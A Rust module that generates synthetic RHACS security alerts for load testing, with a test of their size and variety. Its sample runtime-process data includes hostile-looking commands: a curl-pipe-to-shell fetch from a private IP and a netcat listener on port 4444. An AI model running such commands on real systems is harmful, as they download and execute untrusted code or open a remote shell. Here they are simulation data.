//! Realistic alerts for the load tool, built from Central's 89 default
//! policies (data/rhacs-default-policies.json): deployment, image, resource
//! (audit-log) and runtime alerts with processes, 3–6 KiB each, with the
//! policy's own severity, a few deployment annotations for routing and a
//! subset of the given notifier ids. Deterministic for (i, seed).

use serde_json::{json, Value};

pub struct Generator {
    policies: Vec<Value>,
}

const MIN_BYTES: usize = 3 * 1024;
const MAX_BYTES: usize = 6 * 1024;
const CLUSTERS: &[(&str, &str)] = &[
    ("5b3b8c5e-2f61-4e0a-8f7e-7a6c0b7d9e11", "prod-east"),
    ("6c4c9d6f-3a72-4f1b-9a8f-8b7d1c8e0f22", "prod-west"),
    ("7d5dae70-4b83-4a2c-8b9a-9c8e2d9f1a33", "staging"),
];
const NAMESPACES: &[&str] = &[
    "payments", "checkout", "identity", "search", "platform", "data",
];
const TEAMS: &[&str] = &["payments", "growth", "identity", "sre", "data"];
const IMAGES: &[(&str, &str, &str)] = &[
    ("quay.io", "acme/checkout-api", "2.4.1"),
    ("docker.io", "library/nginx", "1.25.3"),
    ("registry.redhat.io", "ubi9/openjdk-17", "1.18"),
    ("ghcr.io", "acme/search-indexer", "0.9.12"),
];
const PROCESSES: &[(&str, &str, &str)] = &[
    ("bash", "/bin/bash", "-c id"),
    ("sh", "/bin/sh", "-c curl http://10.0.0.7:8080/x | sh"),
    ("nc", "/usr/bin/nc", "-lvnp 4444"),
    ("apt-get", "/usr/bin/apt-get", "install -y nmap"),
];

impl Generator {
    pub fn load(path: &std::path::Path) -> anyhow::Result<Generator> {
        let text = std::fs::read_to_string(path)
            .map_err(|e| anyhow::anyhow!("{}: {e}", path.display()))?;
        let v: Value = serde_json::from_str(&text)?;
        let policies = v["policies"]
            .as_array()
            .cloned()
            .ok_or_else(|| anyhow::anyhow!("{}: no policies array", path.display()))?;
        anyhow::ensure!(!policies.is_empty(), "{}: no policies", path.display());
        Ok(Generator { policies })
    }

    /// Alert `i`: Central's generic-webhook body `{"alert": …}` and its id.
    pub fn alert(&self, i: u64, seed: u64, notifier_ids: &[&str]) -> (String, Vec<u8>) {
        let mut rng = fastrand::Rng::with_seed(seed ^ i.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let policy = &self.policies[(i as usize) % self.policies.len()];
        let id = uuid_like(i, seed);
        let (cluster_id, cluster) = CLUSTERS[rng.usize(..CLUSTERS.len())];
        let ns = NAMESPACES[rng.usize(..NAMESPACES.len())];
        let ns_id = uuid_like(rng.u64(..64), 1);
        let now = chrono::Utc::now();
        let time = now.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true);
        let stages: Vec<&str> = policy["lifecycleStages"]
            .as_array()
            .map(|a| a.iter().filter_map(Value::as_str).collect())
            .unwrap_or_default();
        let audit = policy["eventSource"] == "AUDIT_LOG_EVENT";
        let runtime = stages.contains(&"RUNTIME");
        let processes = runtime && !audit && policy_mentions(policy, "Process");
        let stage = if runtime {
            "RUNTIME"
        } else if stages.contains(&"DEPLOY") {
            "DEPLOY"
        } else {
            "BUILD"
        };
        let mut p = policy.clone();
        let mut ids: Vec<&str> = notifier_ids
            .iter()
            .copied()
            .filter(|_| rng.bool())
            .collect();
        if ids.is_empty() && !notifier_ids.is_empty() {
            ids.push(notifier_ids[(i as usize) % notifier_ids.len()]);
        }
        p["notifiers"] = json!(ids);
        let mut alert = json!({
            "id": id,
            "policy": p,
            "lifecycleStage": stage,
            "clusterId": cluster_id,
            "clusterName": cluster,
            "namespace": ns,
            "namespaceId": ns_id,
        });
        let entity_image = image(&mut rng);
        let attrs = |rng: &mut fastrand::Rng| {
            let verb = ["GET", "PATCH", "CREATE"][rng.usize(..3)];
            json!({"attrs": [
                {"key": "Kubernetes API Verb", "value": verb},
                {"key": "username", "value": format!("system:serviceaccount:{ns}:deployer")},
                {"key": "resource", "value": format!("/api/v1/namespaces/{ns}/secrets/db-{}", rng.u16(..100))},
                {"key": "user agent", "value": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"},
                {"key": "IP address", "value": format!("10.{}.{}.{}", rng.u8(..), rng.u8(..), rng.u8(1..))},
            ]})
        };
        let violation = |rng: &mut fastrand::Rng| -> Value {
            if audit {
                json!({"message": format!("Access to secret in \"{cluster} / {ns}\""), "keyValueAttrs": attrs(rng), "type": "K8S_EVENT", "time": time})
            } else {
                json!({"message": format!("Container '{}' violates policy '{}' ({} finding {})",
                    ["api", "worker", "sidecar"][rng.usize(..3)],
                    policy["name"].as_str().unwrap_or(""),
                    ["CVE-2024-3094", "privileged", "no resource limits", "port 22 exposed"][rng.usize(..4)],
                    rng.u32(..100_000))})
            }
        };
        if audit {
            alert["resource"] = json!({
                "resourceType": "SECRETS",
                "name": format!("db-credentials-{}", rng.u16(..100)),
                "clusterId": cluster_id, "clusterName": cluster,
                "namespace": ns, "namespaceId": ns_id,
            });
            alert["entityType"] = json!("RESOURCE");
        } else if stage == "BUILD" {
            alert["image"] = entity_image;
            alert["entityType"] = json!("CONTAINER_IMAGE");
        } else {
            let team = TEAMS[rng.usize(..TEAMS.len())];
            let name = format!(
                "{team}-{}",
                ["api", "worker", "web", "cron"][rng.usize(..4)]
            );
            let mut annotations = json!({
                "owner": format!("{team}@example.com"),
                "team": team,
                "app.kubernetes.io/managed-by": "argocd",
            });
            if rng.bool() {
                annotations["email"] = json!(format!("{team}-oncall@example.com"));
            }
            if rng.u8(..4) == 0 {
                annotations["jira-project"] = json!(team.to_uppercase());
            }
            let containers: Vec<Value> = (0..rng.usize(1..3))
                .map(|c| json!({"image": image(&mut rng), "name": format!("c{c}")}))
                .collect();
            alert["deployment"] = json!({
                "id": uuid_like(rng.u64(..1000), 2),
                "name": name,
                "type": "Deployment",
                "namespace": ns, "namespaceId": ns_id,
                "labels": {"app": name, "team": team, "app.kubernetes.io/name": name, "version": format!("v{}", rng.u8(1..9))},
                "clusterId": cluster_id, "clusterName": cluster,
                "containers": containers,
                "annotations": annotations,
            });
            alert["entityType"] = json!("DEPLOYMENT");
        }
        if processes {
            let list: Vec<Value> = (0..rng.usize(1..4))
                .map(|_| process(&mut rng, ns, cluster_id, &time))
                .collect();
            let first = &list[0]["signal"];
            alert["processViolation"] = json!({
                "message": format!("Binary '{}' executed with arguments '{}' under user ID {}",
                    first["execFilePath"].as_str().unwrap_or(""), first["args"].as_str().unwrap_or(""), first["uid"]),
                "processes": list,
            });
        } else {
            alert["violations"] = json!((0..rng.usize(1..4))
                .map(|_| violation(&mut rng))
                .collect::<Vec<_>>());
        }
        alert["time"] = json!(time);
        alert["firstOccurred"] = json!(time);
        if p["enforcementActions"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
            && rng.bool()
        {
            alert["enforcement"] = json!({"action": p["enforcementActions"][0], "message": "Deleted 1 pod in response to this policy violation"});
        }
        // Into 3–6 KiB: more violations (or processes) while short, fewer while long.
        let key = if processes { "processes" } else { "violations" };
        let body = |a: &Value| serde_json::to_vec(&json!({ "alert": a })).expect("serialises");
        let mut out = body(&alert);
        while out.len() < MIN_BYTES + rng.usize(..MAX_BYTES - MIN_BYTES) / 2 {
            let extra = if processes {
                process(&mut rng, ns, cluster_id, &time)
            } else {
                violation(&mut rng)
            };
            let list = if processes {
                &mut alert["processViolation"]["processes"]
            } else {
                &mut alert["violations"]
            };
            list.as_array_mut().expect("a list").push(extra);
            out = body(&alert);
        }
        while out.len() > MAX_BYTES {
            let list = if processes {
                &mut alert["processViolation"][key]
            } else {
                &mut alert[key]
            };
            let items = list.as_array_mut().expect("a list");
            if items.len() > 1 {
                items.pop();
            } else if !shrink_policy(&mut alert["policy"]) {
                break;
            }
            out = body(&alert);
        }
        (id, out)
    }
}

/// Makes a long policy shorter (a few default policies list dozens of values
/// per criterion, or long exclusion lists): halves the longest value list,
/// then the exclusions, then drops the prose.
/// `false` when nothing is left to shorten.
fn shrink_policy(policy: &mut Value) -> bool {
    let longest = policy["policySections"]
        .as_array_mut()
        .into_iter()
        .flatten()
        .flat_map(|s| s["policyGroups"].as_array_mut().into_iter().flatten())
        .filter_map(|g| g["values"].as_array_mut())
        .max_by_key(|v| v.len());
    if let Some(values) = longest.filter(|v| v.len() > 1) {
        values.truncate(values.len() / 2);
        return true;
    }
    // Exclusions (kube-system and the like) can run to kilobytes.
    if let Some(ex) = policy["exclusions"]
        .as_array_mut()
        .filter(|e| !e.is_empty())
    {
        ex.truncate(ex.len() / 2);
        return true;
    }
    for field in ["rationale", "description", "remediation"] {
        if policy[field].as_str().is_some_and(|t| !t.is_empty()) {
            policy[field] = json!("");
            return true;
        }
    }
    false
}

/// Whether a policy's criteria name a field containing `word`.
fn policy_mentions(policy: &Value, word: &str) -> bool {
    policy["policySections"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|s| s["policyGroups"].as_array().into_iter().flatten())
        .any(|g| g["fieldName"].as_str().is_some_and(|f| f.contains(word)))
}

fn uuid_like(i: u64, salt: u64) -> String {
    let h = i.wrapping_mul(0x2545_F491_4F6C_DD1D) ^ salt.wrapping_mul(0x9E37_79B9);
    format!(
        "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
        (h >> 32) as u32,
        (h >> 16) as u16,
        (i >> 12) & 0xfff,
        (salt & 0xfff),
        i & 0xffff_ffff_ffff
    )
}

fn image(rng: &mut fastrand::Rng) -> Value {
    let (registry, remote, tag) = IMAGES[rng.usize(..IMAGES.len())];
    let digest: String = (0..64)
        .map(|_| char::from_digit(rng.u32(..16), 16).expect("hex digit"))
        .collect();
    json!({
        "id": format!("sha256:{digest}"),
        "name": {"registry": registry, "remote": remote, "tag": tag, "fullName": format!("{registry}/{remote}:{tag}")},
    })
}

fn process(rng: &mut fastrand::Rng, ns: &str, cluster_id: &str, time: &str) -> Value {
    let (name, path, args) = PROCESSES[rng.usize(..PROCESSES.len())];
    json!({
        "id": uuid_like(rng.u64(..), 3),
        "deploymentId": uuid_like(rng.u64(..1000), 2),
        "containerName": "api",
        "podId": format!("{ns}-api-{:x}", rng.u32(..)),
        "podUid": uuid_like(rng.u64(..), 4),
        "signal": {
            "id": uuid_like(rng.u64(..), 5),
            "containerId": format!("{:012x}", rng.u64(..1 << 48)),
            "time": time,
            "name": name, "args": args, "execFilePath": path,
            "pid": rng.u32(100..60000), "uid": 1001, "gid": 1001,
            "lineageInfo": [{"parentUid": 1001, "parentExecFilePath": "/usr/bin/java"}],
        },
        "clusterId": cluster_id,
        "namespace": ns,
        "containerStartTime": time,
        "imageId": format!("sha256:{:064x}", rng.u128(..)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn generator() -> Generator {
        Generator::load(std::path::Path::new(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/data/rhacs-default-policies.json"
        )))
        .unwrap()
    }

    #[test]
    fn alerts_are_3_to_6_kib_distinct_deterministic_mixed_and_decode() {
        let g = generator();
        assert_eq!(g.policies.len(), 89);
        let mut ids = std::collections::HashSet::new();
        let (mut kinds, mut severities) = (
            std::collections::BTreeSet::new(),
            std::collections::BTreeSet::new(),
        );
        for i in 0..2_000 {
            let (id, body) = g.alert(i, 7, &["n1", "n2", "n3"]);
            assert!(
                (MIN_BYTES..=MAX_BYTES).contains(&body.len()),
                "alert {i}: {} bytes",
                body.len()
            );
            assert!(ids.insert(id.clone()), "id {id} twice");
            let event =
                herald::model::decode(&body, &herald::model::Limits::default()).expect("decodes");
            assert!(matches!(event, herald::model::Event::Alert(_)));
            let v: Value = serde_json::from_slice(&body).unwrap();
            let a = &v["alert"];
            assert_eq!(a["id"], id.as_str());
            assert!(!a["policy"]["notifiers"].as_array().unwrap().is_empty());
            kinds.insert(if !a["processViolation"].is_null() {
                "runtime-process"
            } else if !a["resource"].is_null() {
                "resource"
            } else if !a["image"].is_null() {
                "image"
            } else {
                "deployment"
            });
            severities.insert(a["policy"]["severity"].as_str().unwrap().to_string());
        }
        assert_eq!(kinds.len(), 4, "{kinds:?}");
        assert!(severities.len() >= 3, "{severities:?}");
        // The same id and shape for the same (i, seed); only the times move.
        let (a, b) = (g.alert(42, 7, &["n1"]), g.alert(42, 7, &["n1"]));
        assert_eq!((a.0, a.1.len()), (b.0, b.1.len()));
    }
}
